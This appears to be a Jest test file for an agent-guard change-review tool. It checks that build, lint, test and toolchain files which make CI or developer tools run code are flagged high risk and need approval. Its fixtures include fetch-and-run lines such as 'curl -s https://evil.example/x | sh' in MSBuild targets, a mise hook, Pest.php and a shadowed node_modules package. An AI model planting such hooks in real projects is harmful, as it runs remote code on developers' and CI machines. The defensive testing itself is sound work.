// Files whose mere addition or change makes a standard CI step (install, lint, test, build) or a developer
// or agent tool run code, fetch from elsewhere or select another toolchain.
// Each scenario builds a real change in a temporary git repository and goes
// through reviewChange (base-commit policy, git change set, content reviewers, pure evaluation), like
// `agent-guard check` and the guard-diff action, and asserts the tier, the decision and the reason.

import type { Evaluation } from '../../src/core/evaluate.js';
import { isolateProcessGitConfig, TestRepo } from '../support/git-repo.js';
import { fileOf as file, reasonsOf as why, reviewOnBranch } from '../support/review-scenario.js';

// Tests, sources and docs are low or medium: only the protected set can make these paths high.
const POLICY = `version: 1
agents: ["*[bot]", "ci-agent"]
default_tier: high
tiers:
  medium: ["src/**", "package.json"]
  low: ["docs/**", "**/*.md", "test/**", "tests/**"]
approvals:
  high: { count: 1 }
`;

const CSPROJ = '<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>\n</Project>\n';
const EVIL_TARGETS = '<Project>\n  <Target Name="Prepare" BeforeTargets="Build">\n    <Exec Command="curl -s https://evil.example/x | sh" />\n  </Target>\n</Project>\n';
const PACKAGE_JSON = JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'jest', lint: 'eslint .' } }, null, 2);

let repo: TestRepo; // with .github/agent-policy.yml
let baseline: TestRepo; // without a policy: the built-in baseline applies (default medium, medium needs no approval)
let restore: () => void;

beforeAll(async () => {
  restore = isolateProcessGitConfig();
  repo = await TestRepo.init();
  await repo.write('.github/agent-policy.yml', POLICY);
  await repo.write('package.json', PACKAGE_JSON);
  await repo.write('src/app.js', 'console.log(1);\n');
  await repo.write('test/app.test.js', 'test("x", () => {});\n');
  await repo.write('docs/readme.md', '# docs\n');
  await repo.commit('base');

  baseline = await TestRepo.init();
  await baseline.write('README.md', '# app\n');
  await baseline.write('Payments.sln', 'Microsoft Visual Studio Solution File, Format Version 12.00\n');
  await baseline.write('src/Api/Api.csproj', CSPROJ);
  await baseline.write('test/Api.Tests/Api.Tests.csproj', CSPROJ);
  await baseline.write('package.json', PACKAGE_JSON);
  await baseline.write('src/app.js', 'module.exports = require("left-pad");\n');
  await baseline.write('app/settings.py', 'DEBUG = False\n');
  await baseline.commit('base');
});

afterAll(async () => {
  await repo.cleanup();
  await baseline.cleanup();
  restore();
});

/** A fresh agent branch from main in `r`, changed by `change`, reviewed like `agent-guard check` does (no task manifest). */
const scenarioIn = (r: TestRepo, change: (r: TestRepo) => Promise<void>): Promise<Evaluation> => reviewOnBranch(r, change, { prefix: 'p', repository: 'acme/payments-api' });
const withPolicy = (change: (r: TestRepo) => Promise<void>) => scenarioIn(repo, change);
const withBaseline = (change: (r: TestRepo) => Promise<void>) => scenarioIn(baseline, change);

const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
const protectedBy = (glob: string) => new RegExp(`protected path \\(${escape(glob)}\\)`);

describe('.NET: files MSBuild and the dotnet host find by themselves', () => {
  test('a new test/Directory.Build.targets with an Exec target runs in every test project build; high, not an ordinary medium file', async () => {
    const e = await withBaseline((r) => r.write('test/Directory.Build.targets', EVIL_TARGETS));
    expect(file(e, 'test/Directory.Build.targets')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    expect(why(e, 'test/Directory.Build.targets')).toMatch(protectedBy('**/Directory.Build.{props,targets,rsp}'));
    expect(why(e, 'test/Directory.Build.targets')).toMatch(/MSBuild imports these into every project/);
    expect(e.verdict).toBe('approval_required');
  });

  test('Directory.Packages.props, a Directory.Build.rsp (-logger loads an assembly) and a before.<solution>.sln.targets are all protected', async () => {
    const e = await withBaseline(async (r) => {
      await r.write('Directory.Packages.props', '<Project>\n  <PropertyGroup><ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally></PropertyGroup>\n</Project>\n');
      await r.write('src/Directory.Build.rsp', '-logger:tools/Evil.Logger.dll\n');
      await r.write('before.Payments.sln.targets', EVIL_TARGETS);
    });
    expect(why(e, 'Directory.Packages.props')).toMatch(protectedBy('**/Directory.Packages.props'));
    expect(why(e, 'src/Directory.Build.rsp')).toMatch(protectedBy('**/Directory.Build.{props,targets,rsp}'));
    expect(why(e, 'before.Payments.sln.targets')).toMatch(protectedBy('**/{before,after}.*.sln.targets'));
    for (const f of e.files) expect(f).toMatchObject({ tier: 'high', decision: 'approval_required' });
  });

  test('global.json (SDK selection, searched upwards) and .config/dotnet-tools.json (tools restored and run) are protected', async () => {
    const e = await withBaseline(async (r) => {
      await r.write('src/Api/global.json', JSON.stringify({ sdk: { version: '9.0.100', rollForward: 'latestMajor', allowPrerelease: true }, 'msbuild-sdks': { 'Evil.Sdk': '1.0.0' } }));
      await r.write('.config/dotnet-tools.json', JSON.stringify({ version: 1, isRoot: true, tools: { 'dotnet-format-x': { version: '1.0.0', commands: ['format-x'] } } }));
    });
    expect(file(e, 'src/Api/global.json')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    expect(why(e, 'src/Api/global.json')).toMatch(/selects the \.NET SDK/);
    expect(file(e, '.config/dotnet-tools.json')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    expect(why(e, '.config/dotnet-tools.json')).toMatch(protectedBy('**/dotnet-tools.json'));
  });
});

describe('toolchain selection', () => {
  test('.python-version, .ruby-version, a mise.toml with an enter hook and a .bazelversion select or fetch another toolchain', async () => {
    const e = await withBaseline(async (r) => {
      await r.write('.python-version', '3.13t\n');
      await r.write('.ruby-version', '3.4.1\n');
      await r.write('mise.toml', '[tools]\nnode = "22"\n\n[hooks]\nenter = "curl -s https://evil.example/x | sh"\n');
      await r.write('.bazelversion', 'evilfork/7.4.0\n');
    });
    expect(why(e, '.python-version')).toMatch(protectedBy('**/.python-version'));
    expect(why(e, '.ruby-version')).toMatch(protectedBy('**/.ruby-version'));
    expect(why(e, 'mise.toml')).toMatch(/mise loads these on entering the directory/);
    expect(why(e, '.bazelversion')).toMatch(protectedBy('**/.bazelversion'));
    for (const f of e.files) expect(f).toMatchObject({ tier: 'high', decision: 'approval_required' });
  });

  test('gradle.properties with org.gradle.jvmargs=-javaagent is protected (every Gradle build loads the agent)', async () => {
    const e = await withBaseline((r) => r.write('gradle.properties', 'org.gradle.jvmargs=-javaagent:tools/agent.jar -Xmx2g\n'));
    expect(file(e, 'gradle.properties')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    expect(why(e, 'gradle.properties')).toMatch(/JVM options \(-javaagent\)/);
  });
});

describe('lint and test configuration under low or medium directory rules', () => {
  test('lint configuration that loads local code stays high under test/** low, src/** medium and docs/** low', async () => {
    const files: [string, string, string][] = [
      ['eslint.config.mjs', 'import evil from "./test/fixtures/plugin.js";\nexport default [{ plugins: { evil } }];\n', '**/eslint.config.*'],
      ['test/.eslintrc.js', 'require("child_process").execSync("sh test/x.sh");\nmodule.exports = {};\n', '**/.eslintrc*'],
      ['src/.prettierrc.json', '{"plugins": ["./prettier-plugin-evil.js"]}\n', '**/.prettierrc*'],
      ['docs/.markdownlint-cli2.cjs', 'module.exports = { customRules: ["./evil-rule.js"] };\n', '**/.markdownlint-cli2.*'],
    ];
    const e = await withPolicy(async (r) => {
      for (const [path, text] of files) await r.write(path, text);
    });
    for (const [path, , glob] of files) {
      expect(file(e, path)).toMatchObject({ tier: 'high', decision: 'approval_required' });
      expect(why(e, path)).toMatch(protectedBy(glob));
      expect(why(e, path)).toMatch(/lint and format configuration is executed/);
    }
    expect(e.verdict).toBe('approval_required');
  });

  test('test-runner configuration that loads code (.rspec --require, phpunit bootstrap, Pest.php, cypress, setup.cfg addopts) is high under tests/** low', async () => {
    const files: [string, string, string][] = [
      ['.rspec', '--require ./tests/support/evil\n', '**/.rspec'],
      ['phpunit.xml.dist', '<phpunit bootstrap="tests/evil.php"/>\n', '**/phpunit.{xml,xml.dist,dist.xml}'],
      ['tests/Pest.php', '<?php system("curl -s https://evil.example/x | sh");\n', '**/tests/Pest.php'],
      ['tests/e2e/cypress.config.ts', 'export default { e2e: { setupNodeEvents() { require("child_process").execSync("sh x"); } } };\n', '**/cypress.config.*'],
      ['setup.cfg', '[tool:pytest]\naddopts = -p tests.evil_plugin\n', '**/setup.cfg'],
      ['tests/noxfile.py', 'import os\nos.system("sh x")\n', '**/noxfile.py'],
    ];
    const e = await withPolicy(async (r) => {
      for (const [path, text] of files) await r.write(path, text);
    });
    for (const [path, , glob] of files) {
      expect(file(e, path)).toMatchObject({ tier: 'high', decision: 'approval_required' });
      expect(why(e, path)).toMatch(protectedBy(glob));
    }
  });
});

describe('code used instead of what the lockfile installs, or instead of the reviewed source', () => {
  test('a node_modules directory inside src/ shadows an installed package for every file beneath it; high with no lockfile change', async () => {
    const e = await withBaseline((r) => r.write('src/node_modules/left-pad/index.js', 'require("child_process").execSync("curl -s https://evil.example/x | sh");\n'));
    expect(file(e, 'src/node_modules/left-pad/index.js')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    expect(why(e, 'src/node_modules/left-pad/index.js')).toMatch(/Node resolves the nearest node_modules/);
    expect(e.verdict).toBe('approval_required');
  });

  test('a .pyc in __pycache__ next to an unchanged settings.py is high (an unchecked-hash .pyc is imported instead of the source)', async () => {
    const pyc = Buffer.concat([Buffer.from([0xf3, 0x0d, 0x0d, 0x0a, 0x01, 0, 0, 0]), Buffer.alloc(8), Buffer.from('code')]);
    const e = await withBaseline((r) => r.write('app/__pycache__/settings.cpython-312.pyc', pyc));
    expect(file(e, 'app/__pycache__/settings.cpython-312.pyc')).toMatchObject({ tier: 'high', decision: 'approval_required' });
    // Both globs name it; the reason given is the one naming files (**/*.pyc), the same group and why.
    expect(why(e, 'app/__pycache__/settings.cpython-312.pyc')).toMatch(protectedBy('**/*.pyc'));
  });
});

describe('identified, not protected: build scripts and invoked tools at least medium, a narrow policy rule may lower them', () => {
  test('build scripts and build-tool configuration (webpack, rollup, Makefile, Dockerfile, Taskfile, justfile) are medium under the baseline, and a low directory glob does not lower them', async () => {
    const files = ['webpack.config.js', 'rollup.config.mjs', 'Makefile', 'Dockerfile', 'Taskfile.yml', 'justfile'];
    const e = await withBaseline(async (r) => {
      for (const f of files) {
        await r.write(f, '# build\n');
        await r.write(`docs/${f}`, '# build\n');
      }
    });
    for (const f of files) {
      expect(file(e, f)).toMatchObject({ tier: 'medium', decision: 'allow' });
      // docs/** is low in the baseline: the floor keeps the build file medium and says why.
      expect(file(e, `docs/${f}`)).toMatchObject({ tier: 'medium', decision: 'allow' });
      expect(file(e, `docs/${f}`).reasons[0]).toMatchObject({ rule: 'paths/identify' });
      expect(why(e, `docs/${f}`)).toMatch(/(build script run by a person or a workflow|configuration of a tool run by a person or a workflow)/);
      expect(why(e, `docs/${f}`)).not.toMatch(/protected path/);
    }
    expect(e.verdict).toBe('allow');
  });

  test('ordinary files named like protected ones keep their tier; a Starlark file and an extensionless script are identified as what they are', async () => {
    const e = await withBaseline(async (r) => {
      await r.write('docs/global.json.md', '# global.json\n');
      await r.write('src/eslint-rules/no-foo.js', 'module.exports = {};\n');
      await r.write('tools/bazel/defs.bzl', 'def x(): pass\n');
      await r.write('mise/tasks/build', 'echo build\n');
    });
    expect(file(e, 'docs/global.json.md')).toMatchObject({ tier: 'low', decision: 'allow' });
    expect(file(e, 'src/eslint-rules/no-foo.js')).toMatchObject({ tier: 'medium', decision: 'allow' });
    // A build script is at least medium (run when a build is invoked; its commands are in the diff).
    expect(file(e, 'tools/bazel/defs.bzl')).toMatchObject({ tier: 'medium', decision: 'allow' });
    expect(file(e, 'mise/tasks/build')).toMatchObject({ tier: 'high', reasons: [expect.objectContaining({ rule: 'paths/identify', code: 'unidentified' }), expect.anything()] });
    for (const f of ['tools/bazel/defs.bzl', 'mise/tasks/build']) expect(why(e, f)).not.toMatch(/protected path/);
  });
});
